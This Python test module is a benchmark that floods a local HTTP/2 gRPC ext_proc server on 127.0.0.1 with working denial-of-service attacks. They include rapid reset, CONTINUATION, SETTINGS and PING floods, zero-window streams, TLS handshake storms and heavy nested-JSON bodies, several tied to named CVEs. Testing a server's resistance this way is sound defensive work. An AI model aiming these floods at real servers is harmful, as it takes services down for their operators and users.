"""Attacks on the port: `python -m tests.bench.attack NAME PORT SECONDS CONNECTIONS`.

Each sends as fast as the server reads, except expensive bodies, at 40 MB/s. A connection that is ended is opened
again, as an attacker would. Prints how many bytes were sent, and over how many connections.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import ssl
import sys
from collections.abc import Callable
from math import inf
from time import monotonic

from extproc.pb.external_processor_pb2 import HttpHeaders, ProcessingRequest
from extproc.transport import http2
from extproc.transport.grpc import frame_message
from extproc.transport.headers import encode
from extproc.transport.health import EXT_PROC
from tests.bench import samples

_REQUEST = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", f"/{EXT_PROC}/Process".encode())]
_CALL = [*_REQUEST, (b"content-type", b"application/grpc")]
_BLOCK = encode(_CALL)
_BATCH = 2_000
"""Frames made at a time."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


HELLO = http2.PREFACE + frame(http2.SETTINGS, 0, 0) + frame(http2.SETTINGS, http2.ACK, 0)
_SHUT = frame(http2.SETTINGS, 0, 0, b"\0\x04\0\0\0\0")


def _opening(number: int, block: bytes = _BLOCK, flags: int = 0) -> bytes:
    return frame(http2.HEADERS, http2.END_HEADERS | flags, number, block)


def _message(user: str) -> bytes:
    message = ProcessingRequest(request_headers=HttpHeaders(end_of_stream=True))
    for name, value in ((":method", "GET"), (":path", "/v1/chat/completions"), (":authority", "h"), ("x-user-id", user)):
        message.request_headers.headers.headers.add(key=name, raw_value=value.encode())
    return frame_message(message.SerializeToString())


_ASKED = _message("attacker")


def _streams(make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """A batch that opens streams; the argument is the number of the batch."""
    return lambda batch: b"".join(make(2 * (batch * _BATCH + number) + 1) for number in range(_BATCH))


def _repeated(one: bytes, before: bytes = b"") -> Callable[[int], bytes]:
    """A batch of the same frame, behind what makes it possible."""
    return lambda batch: (before if not batch else b"") + one * _BATCH


_UNFINISHED = _opening(1) + frame(http2.DATA, 0, 1, b"\0" + (60 * 2**20).to_bytes(4, "big"))
_MANY_OPEN = _SHUT + b"".join(_opening(number) for number in range(1, 1_800, 2))
_WINDOWS = frame(http2.SETTINGS, 0, 0, (b"\0\x04\0\0\0\x01" + b"\0\x04\0\0\0\0") * 1_000)

ATTACKS: dict[str, Callable[[int], bytes]] = {
    "PING": _repeated(frame(http2.PING, 0, 0, bytes(8))),
    "empty DATA (CVE-2019-9518)": _repeated(frame(http2.DATA, 0, 1), _opening(1)),
    "SETTINGS (CVE-2019-9515)": _repeated(frame(http2.SETTINGS, 0, 0)),
    "windows of many streams": _repeated(_WINDOWS, _MANY_OPEN),
    "WINDOW_UPDATE beside many streams": _repeated(frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"), _MANY_OPEN),
    "CONTINUATION (CVE-2024-27316)": _repeated(frame(http2.CONTINUATION, 0, 1), frame(http2.HEADERS, 0, 1, _BLOCK)),
    "rapid reset (CVE-2023-44487)": _streams(lambda number: _opening(number) + frame(http2.RST_STREAM, 0, number, bytes(4))),
    "rapid reset behind a message": _streams(
        lambda number: _opening(number) + frame(http2.DATA, 0, number, _ASKED) + frame(http2.RST_STREAM, 0, number, bytes(4))
    ),
    "made to reset (CVE-2025-8671)": _streams(
        lambda number: _opening(number) + frame(http2.WINDOW_UPDATE, 0, number, bytes(4))
    ),
    "refused calls": _streams(lambda number: _opening(number, encode(_REQUEST), http2.END_STREAM)),
    "header blocks that differ": _streams(
        lambda number: _opening(number, encode([*_CALL, *((b"x-%d" % each, b"%d" % number) for each in range(100))]))
    ),
    "unfinished messages": _repeated(frame(http2.DATA, 0, 1, bytes(16_000)), _UNFINISHED),
    "answers into a shut window (CVE-2019-9517)": lambda batch: (
        (_SHUT if not batch else b"") + _streams(lambda number: _opening(number) + frame(http2.DATA, 0, number, _ASKED))(batch)
    ),
    "no HTTP/2 at all": lambda _: b"GET / HTTP/1.1\r\n\r\n",
}

HANDSHAKES = "TLS handshakes"
"""An attack on a port with TLS, by another name because it has no frames."""

EXPENSIVE = "expensive JSON"
"""All from one caller, while the loops of others must still be found."""

EXPENSIVE_PATH = "/v1/expensive"
_EXPENSIVE_RATE = 40_000_000
_CROWD = 800


def _expensive(batch: int) -> bytes:
    """A request whose body is a megabyte of JSON with as many values as that can hold."""
    start = b'{"model":["%d"' % batch
    body = start + b",[[[[1]]]]" * ((2**20 - 200) // 10) + b"]}"
    head = samples.headers_message(EXPENSIVE_PATH, user="attacker", length=len(body))
    data = frame_message(head) + frame_message(samples.body_message(body))
    number = 2 * batch + 1
    pieces = (data[place : place + http2.MAX_FRAME] for place in range(0, len(data), http2.MAX_FRAME))
    return _opening(number) + b"".join(frame(http2.DATA, 0, number, piece) for piece in pieces)


class _Connection:
    """One connection of the attacker's."""

    def __init__(self, port: int, attack: Callable[[int], bytes]) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setblocking(False)
        self._attack = attack
        self._batch = 0
        self._left = memoryview(HELLO)

    def pump(self, readable: bool, writable: bool) -> int:
        """Read what there is and send what goes; returns how much was sent, -1 when the connection is over."""
        try:
            if readable and not self.socket.recv(2**18):
                return -1
            if not writable:
                return 0
            if not self._left:
                self._left = memoryview(self._attack(self._batch))
                self._batch += 1
            sent = self.socket.send(self._left[: 2**18])
        except BlockingIOError:
            return 0
        except OSError:
            return -1
        self._left = self._left[sent:]
        return sent


def attack(make: Callable[[int], bytes], port: int, seconds: float, connections: int, rate: float = inf) -> dict[str, int]:
    """Attack for that long; returns bytes sent and connections opened. `rate` is in bytes a second."""
    started = monotonic()
    until = started + seconds
    alive: dict[int, _Connection] = {}
    sent = opened = 0
    while monotonic() < until:
        while len(alive) < connections:
            made = _Connection(port, make)
            alive[made.socket.fileno()] = made
            opened += 1
        behind = sent < (monotonic() - started) * rate
        readable, writable, _ = select.select(list(alive), list(alive) if behind else [], [], 0.1 if behind else 0.005)
        for number in {*readable, *writable}:
            size = alive[number].pump(number in readable, number in writable)
            sent += max(size, 0)
            if size < 0:
                alive.pop(number).socket.close()
    return {"bytes": sent, "connections": opened}


def knock(port: int, seconds: float) -> dict[str, int]:
    """Connect, then begin all handshakes at once, and leave when the server has answered: it has done its part of the work."""
    word, until, opened = _make_hello(), monotonic() + seconds, 0
    while monotonic() < until:
        crowd = [socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0)) for _ in range(_CROWD)]
        opened += len(crowd)
        for member in crowd:
            member.sendall(word)
        for member in crowd:
            with member, contextlib.suppress(OSError):
                member.settimeout(1)
                member.recv(1)
    return {"bytes": opened * len(word), "connections": opened}


def _make_hello() -> bytes:
    """The first word of a client."""
    context, sent = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), ssl.MemoryBIO()
    context.set_alpn_protocols(["h2"])
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="guard.example").do_handshake()
    return sent.read()


def main(name: str, port: str, seconds: str, connections: str) -> None:
    """Print what was sent."""
    if name == HANDSHAKES:
        found = knock(int(port), float(seconds))
    elif name == EXPENSIVE:
        found = attack(_expensive, int(port), float(seconds), int(connections), _EXPENSIVE_RATE)
    else:
        found = attack(ATTACKS[name], int(port), float(seconds), int(connections))
    print(json.dumps(found))


if __name__ == "__main__":
    main(*sys.argv[1:])
